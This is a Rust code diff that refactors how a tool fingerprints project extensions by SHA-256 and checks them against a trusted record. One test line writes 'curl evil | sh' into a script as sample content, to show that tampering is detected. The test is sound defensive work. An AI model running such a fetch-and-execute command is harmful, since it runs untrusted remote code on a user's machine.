@@ -131,7 +131,7 @@ struct Record {
 struct Trusted {
     trusted_at: String,
     /// What [`fingerprint`] gave when it was trusted.
-    files: BTreeMap<String, String>,
+    files: Fingerprint,
 }
 
 /// One project extension to trust: its folder's name, the folder, and its manifest when
@@ -142,13 +142,14 @@ pub struct ProjectExtension<'a> {
     pub manifest: Option<&'a Manifest>,
 }
 
+/// Hex SHA-256 of each file of an extension, by its path inside the extension's folder
+/// (`/`-separated) or `outside:<real path>`.
+pub type Fingerprint = BTreeMap<String, String>;
+
 /// The SHA-256 of every file of the extension in `dir` (links followed inside it; one
 /// leading out of it, or a file that is not a regular one, is an error) and, keyed
 /// `outside:<real path>`, of each file outside `dir` that `manifest` names.
-pub fn fingerprint(
-    dir: &Path,
-    manifest: Option<&Manifest>,
-) -> Result<BTreeMap<String, String>, TreeError> {
+pub fn fingerprint(dir: &Path, manifest: Option<&Manifest>) -> Result<Fingerprint, TreeError> {
     let mut files = hash_tree(dir, Links::Follow)?;
     let Some(m) = manifest else {
         return Ok(files);
@@ -179,20 +180,29 @@ pub fn fingerprint(
 /// One SHA-256 of the [`fingerprint`] of the extension in `dir`: what a confined classic
 /// extension's grant is bound to.
 pub fn digest(dir: &Path, manifest: Option<&Manifest>) -> Result<String, TreeError> {
+    Ok(digest_of(&fingerprint(dir, manifest)?))
+}
+
+/// One SHA-256 of a [`fingerprint`].
+pub fn digest_of(files: &Fingerprint) -> String {
     use sha2::{Digest, Sha256};
     let mut hasher = Sha256::new();
-    for (file, sha) in fingerprint(dir, manifest)? {
+    for (file, sha) in files {
         hasher.update(file.as_bytes());
         hasher.update([0]);
         hasher.update(sha.as_bytes());
         hasher.update([b'\n']);
     }
-    Ok(format!("{:x}", hasher.finalize()))
+    format!("{:x}", hasher.finalize())
 }
 
 /// Whether the extension in `dir` (folder `dir_name` of `project`'s `.zot/extensions`)
-/// is trusted as it is now.
-pub fn check(home: &ZotHome, project: &Path, ext: &ProjectExtension<'_>) -> Result<(), Untrusted> {
+/// is trusted as it is now: the fingerprint found the same as the one trusted.
+pub fn check(
+    home: &ZotHome,
+    project: &Path,
+    ext: &ProjectExtension<'_>,
+) -> Result<Fingerprint, Untrusted> {
     let untrusted = |why| Untrusted::new(project, why);
     let record = load(home, project).map_err(|e| {
         untrusted(Why::Unreadable {
@@ -209,14 +219,14 @@ pub fn check(home: &ZotHome, project: &Path, ext: &ProjectExtension<'_>) -> Resu
     })?;
     let changed = differences(&trusted.files, &now);
     if changed.is_empty() {
-        Ok(())
+        Ok(now)
     } else {
         Err(untrusted(Why::Changed { files: changed }))
     }
 }
 
 /// Paths whose hash differs, was added or was removed, sorted.
-fn differences(then: &BTreeMap<String, String>, now: &BTreeMap<String, String>) -> Vec<String> {
+fn differences(then: &Fingerprint, now: &Fingerprint) -> Vec<String> {
     let mut changed: Vec<String> = then
         .iter()
         .filter(|(path, hash)| now.get(*path) != Some(hash))
@@ -331,7 +341,7 @@ mod tests {
             dir: &dir,
             manifest: Some(&m),
         };
-        let why = |r: Result<(), Untrusted>| r.unwrap_err().why;
+        let why = |r: Result<Fingerprint, Untrusted>| r.unwrap_err().why;
 
         assert_eq!(why(check(&home, &project, &ext)), Why::New);
         trust(&home, &project, &[ext], true).unwrap();
@@ -340,7 +350,10 @@ mod tests {
             dir: &dir,
             manifest: Some(&m),
         };
-        assert_eq!(check(&home, &project, &ext), Ok(()));
+        assert_eq!(
+            check(&home, &project, &ext).ok(),
+            fingerprint(&dir, Some(&m)).ok()
+        );
         // A file outside the folder that the manifest names is bound too.
         std::fs::write(project.join("run.sh"), "curl evil | sh").unwrap();
         let outside = format!("outside:{}", project.join("run.sh").display());
